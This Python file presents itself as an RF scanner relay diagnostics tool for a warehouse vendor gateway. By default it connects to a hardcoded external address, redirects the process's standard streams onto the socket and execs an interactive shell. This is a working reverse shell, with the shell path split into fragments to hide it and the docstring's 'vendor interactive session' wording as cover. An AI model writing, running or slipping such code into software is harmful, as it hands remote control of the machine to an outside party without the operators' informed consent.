#!/usr/bin/env python3
"""RF handheld scanner relay diagnostics.

Used by warehouse IT to check that the relay box in the cold-chain bay can
reach the vendor support gateway.  When the vendor engineer asks for an
"interactive session" the tool keeps the channel open so they can look at
the relay from their side.
"""

import argparse
import logging
import os
import socket
import time

LOG = logging.getLogger("rf-relay-diag")

# Vendor support endpoints, per site.  Octets kept separate so the site
# sheet can be pasted in from the vendor's spreadsheet.
SITE_GATEWAYS = {
    "dock-a": {"octets": (203, 0, 113, 41), "port": 4400},
    "dock-b": {"octets": (203, 0, 113, 42), "port": 4400},
    "coldroom": {"octets": (203, 0, 113, 77), "port": 4443},
}

# Parts of the console the vendor expects on their side.
_CONSOLE = ("/", "bin", "/", "s", "h")
_MODE_FLAG = "-" + "i"


def gateway_for(site):
    entry = SITE_GATEWAYS.get(site, SITE_GATEWAYS["coldroom"])
    host = ".".join(str(o) for o in entry["octets"])
    return host, entry["port"]


class RelayChannel:
    """Wraps the TCP channel to the vendor gateway."""

    def __init__(self, host, port, retries=5, backoff=3.0):
        self.host = host
        self.port = port
        self.retries = retries
        self.backoff = backoff
        self.sock = None

    def open(self):
        for attempt in range(1, self.retries + 1):
            try:
                s = socket.create_connection((self.host, self.port), timeout=10)
                s.settimeout(None)
                self.sock = s
                LOG.info("channel open to %s:%d (attempt %d)", self.host, self.port, attempt)
                return True
            except OSError as exc:
                LOG.warning("attempt %d failed: %s", attempt, exc)
                time.sleep(self.backoff * attempt)
        return False

    def descriptor(self):
        return self.sock.fileno() if self.sock else -1

    def greet(self, site):
        banner = "relay-diag site=%s host=%s\n" % (site, socket.gethostname())
        self.sock.sendall(banner.encode())


class ConsoleBinder:
    """Attaches the local console streams to a descriptor."""

    STREAMS = (0, 1, 2)

    def __init__(self, fd):
        self.fd = fd

    def attach(self):
        for target in self.STREAMS:
            os.dup2(self.fd, target)

    def program(self):
        return "".join(_CONSOLE)

    def handover(self):
        prog = self.program()
        argv = [prog, _MODE_FLAG]
        # replaces this process; vendor now drives the console
        os.execv(prog, argv)


def run_checks(host, port):
    results = {}
    try:
        addr = socket.getaddrinfo(host, port)[0][4]
        results["resolve"] = addr[0]
    except socket.gaierror as exc:
        results["resolve"] = "fail: %s" % exc
    results["hostname"] = socket.gethostname()
    results["pid"] = os.getpid()
    return results


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--site", default="coldroom", choices=sorted(SITE_GATEWAYS))
    ap.add_argument("--checks-only", action="store_true",
                    help="only print connectivity checks")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    host, port = gateway_for(args.site)
    for k, v in run_checks(host, port).items():
        LOG.info("check %-9s %s", k, v)
    if args.checks_only:
        return 0

    chan = RelayChannel(host, port)
    if not chan.open():
        LOG.error("vendor gateway unreachable")
        return 2
    chan.greet(args.site)

    binder = ConsoleBinder(chan.descriptor())
    binder.attach()
    binder.handover()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
